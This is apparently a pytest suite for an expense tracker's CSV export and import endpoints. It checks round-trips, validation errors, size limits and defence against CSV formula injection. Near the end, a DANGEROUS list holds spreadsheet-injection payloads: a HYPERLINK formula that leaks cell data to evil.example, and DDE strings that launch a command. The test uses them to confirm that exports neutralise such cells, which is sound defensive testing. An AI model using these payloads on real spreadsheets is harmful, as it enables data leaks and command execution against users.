from __future__ import annotations

import csv
import io
from typing import Any

from litestar import Litestar
from litestar.testing import AsyncTestClient

from expense_tracker.constants import IMPORT_FILE_MAX_BYTES, IMPORT_MAX_ROWS
from tests.conftest import Session, sign_in

Client = AsyncTestClient[Litestar]
COMPARED = ("spent_on", "title", "amount", "currency", "category", "notes")


async def export(client: Client, user: Session, query: str = "") -> list[dict[str, str]]:
    response = await client.get(f"/api/expenses/export.csv?{query}", headers=user.headers)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.text)))


async def upload(client: Client, user: Session, content: str | bytes) -> Any:
    data = content.encode() if isinstance(content, str) else content
    return await client.post(
        "/api/expenses/import", files={"file": ("expenses.csv", data, "text/csv")}, headers=user.headers
    )


async def test_export_then_import_reproduces_the_data(client: Client, user: Session) -> None:
    cats = {c["name"]: c["id"] for c in (await client.get("/api/categories", headers=user.headers)).json()}
    for body in (
        {"title": 'Quote " and, comma', "amount": "10.10", "spent_on": "2024-01-02", "category_id": cats["Food"]},
        {"title": "Multi\nline", "amount": "0.01", "spent_on": "2024-01-03", "notes": "naïve ünïcode €"},
        {"title": "Euro", "amount": "99999.99", "currency": "EUR", "spent_on": "2024-01-01"},
    ):
        assert (await client.post("/api/expenses", json=body, headers=user.headers)).status_code == 201
    exported = await export(client, user)
    assert len(exported) == 3
    assert list(exported[0].keys()) == [
        "id",
        "spent_on",
        "title",
        "amount",
        "currency",
        "category",
        "notes",
        "created_at",
        "updated_at",
        "tags",  # issue 15: names joined by "; ", last so older files (without it) still import
        "split_id",
    ]
    text = (await client.get("/api/expenses/export.csv", headers=user.headers)).text

    newcomer = await sign_in(client)
    result = await upload(client, newcomer, text)
    assert result.status_code == 201, result.text
    assert result.json() == {"imported": 3, "categories_created": []}
    reimported = await export(client, newcomer)
    assert [{k: r[k] for k in COMPARED} for r in reimported] == [{k: r[k] for k in COMPARED} for r in exported]


async def test_export_honours_filters(client: Client, user: Session) -> None:
    for amount in ("5", "50", "500"):
        await client.post("/api/expenses", json={"title": "t", "amount": amount}, headers=user.headers)
    rows = await export(client, user, "min_amount=10&sort=amount")
    assert [r["amount"] for r in rows] == ["50.00", "500.00"]


async def test_unknown_categories_are_created(client: Client, user: Session) -> None:
    content = (
        "title,amount,spent_on,category\n"
        "Vet,120.5,2024-05-01,Pets\nFood again,3,2024-05-02,food\nToy,9,2024-05-03,pets\n"
    )
    result = await upload(client, user, content)
    assert result.status_code == 201
    assert result.json() == {"imported": 3, "categories_created": ["Pets"]}
    rows = await export(client, user, "sort=spent_on")
    assert [(r["title"], r["category"], r["currency"]) for r in rows] == [
        ("Vet", "Pets", "USD"),
        ("Food again", "Food", "USD"),
        ("Toy", "Pets", "USD"),
    ]


async def test_one_bad_row_stores_nothing_and_names_row_and_field(client: Client, user: Session) -> None:
    content = (
        "title,amount,spent_on,currency,category\n"
        "Fine,1.00,2024-01-01,USD,Brand new\n"
        "Bad amount,0,2024-01-02,USD,\n"
        ",2,2024-01-03,USD,\n"
        "Bad date,2,2024-02-30,EUR,\n"
        "Bad currency,2,2024-01-04,ZZZ,\n"
    )
    result = await upload(client, user, content)
    assert result.status_code == 400
    problem = result.json()
    assert problem["errors"] == [
        {"row": 3, "field": "amount", "message": "must not be 0 (a negative amount is a refund)"},
        {"row": 4, "field": "title", "message": "must be 1 to 200 characters"},
        {"row": 5, "field": "spent_on", "message": "must be a date as YYYY-MM-DD"},
        {"row": 6, "field": "currency", "message": "must be an ISO 4217 currency code such as USD or EUR"},
    ]
    assert "nothing was imported" in problem["detail"]
    assert await export(client, user) == []
    names = {c["name"] for c in (await client.get("/api/categories", headers=user.headers)).json()}
    assert "Brand new" not in names


async def test_structural_problems(client: Client, user: Session) -> None:
    missing = await upload(client, user, "title,amount\nx,1\n")
    assert missing.status_code == 400
    assert missing.json()["errors"][0] == {"row": 1, "field": "header", "message": "missing column(s): spent_on"}
    latin1 = await upload(client, user, "title,amount,spent_on\ncaf\xe9,1,2024-01-01\n".encode("latin-1"))
    assert latin1.json()["errors"][0]["message"] == "must be UTF-8 encoded CSV"
    empty = await upload(client, user, "title,amount,spent_on\n")
    assert empty.status_code == 400
    no_file = await client.post("/api/expenses/import", files={"other": ("a.csv", b"x")}, headers=user.headers)
    assert no_file.status_code == 400


async def test_limits(client: Client, user: Session) -> None:
    too_many = "title,amount,spent_on\n" + "x,1,2024-01-01\n" * (IMPORT_MAX_ROWS + 1)
    assert len(too_many) < IMPORT_FILE_MAX_BYTES
    response = await upload(client, user, too_many)
    assert response.status_code == 400
    assert response.json()["errors"][-1]["message"] == f"has more than {IMPORT_MAX_ROWS} rows"
    too_big = "title,amount,spent_on\n" + ("x" * 100 + ",1,2024-01-01\n") * (IMPORT_FILE_MAX_BYTES // 100)
    assert (await upload(client, user, too_big)).status_code == 413
    assert await export(client, user) == []


async def test_a_huge_field_is_a_row_error_not_a_crash(client: Client, user: Session) -> None:
    # Python's csv module refuses fields over 131,072 characters with csv.Error; that must name the row.
    content = "title,amount,spent_on,notes\nfine,1,2024-01-01,\nhuge,1,2024-01-02," + "n" * 140_000 + "\n"
    response = await upload(client, user, content)
    assert response.status_code == 400, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = {"row": 3, "field": "file", "message": "has a field longer than 131072 characters"}
    assert response.json()["errors"] == [problem]
    assert await export(client, user) == []


async def test_nul_bytes_are_refused_with_row_and_column(client: Client, user: Session) -> None:
    content = "title,amount,spent_on,category,notes\nok,1,2024-01-01,,\nnu\x00l,1,2024-01-02,Ca\x00t,a\x00b\n"
    response = await upload(client, user, content)
    assert response.status_code == 400, response.text
    assert response.json()["errors"] == [
        {"row": 3, "field": "title", "message": "must not contain NUL characters"},
        {"row": 3, "field": "notes", "message": "must not contain NUL characters"},
        {"row": 3, "field": "category", "message": "must not contain NUL characters"},
    ]
    assert await export(client, user) == []


DANGEROUS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "'=already quoted",
    "'plain apostrophe",
)


async def test_export_neutralises_formulas_and_reimports_unchanged(client: Client, user: Session) -> None:
    for index, text in enumerate(DANGEROUS):
        category = await client.post(
            "/api/categories", json={"name": f"{text[:40]}{index}", "color": "#123456"}, headers=user.headers
        )
        assert category.status_code == 201, category.text
        body = {
            "title": text,
            "amount": "1.00",
            "spent_on": f"2024-03-{index + 1:02d}",
            "category_id": category.json()["id"],
            "notes": "\t" + text if index % 2 else "\r" + text,
        }
        assert (await client.post("/api/expenses", json=body, headers=user.headers)).status_code == 201
    exported = await export(client, user, "sort=spent_on")
    for row in exported:
        for field in ("title", "notes", "category"):
            # OWASP CSV injection: a cell a spreadsheet would evaluate starts with a quote instead.
            assert row[field][0] not in "=+-@\t\r", (field, row[field])
    assert exported[0]["title"] == "'" + DANGEROUS[0]
    assert exported[5]["title"] == "''=already quoted"
    assert exported[6]["title"] == "'plain apostrophe"

    text = (await client.get("/api/expenses/export.csv?sort=spent_on", headers=user.headers)).text
    newcomer = await sign_in(client)
    result = await upload(client, newcomer, text)
    assert result.status_code == 201, result.text
    stored = (await client.get("/api/expenses?sort=spent_on", headers=newcomer.headers)).json()["items"]
    assert [e["title"] for e in stored] == list(DANGEROUS)
    assert [e["notes"] for e in stored] == [("\t" if i % 2 else "\r") + t for i, t in enumerate(DANGEROUS)]
    names = {c["name"] for c in (await client.get("/api/categories", headers=newcomer.headers)).json()}
    assert {f"{t[:40]}{i}" for i, t in enumerate(DANGEROUS)} <= names
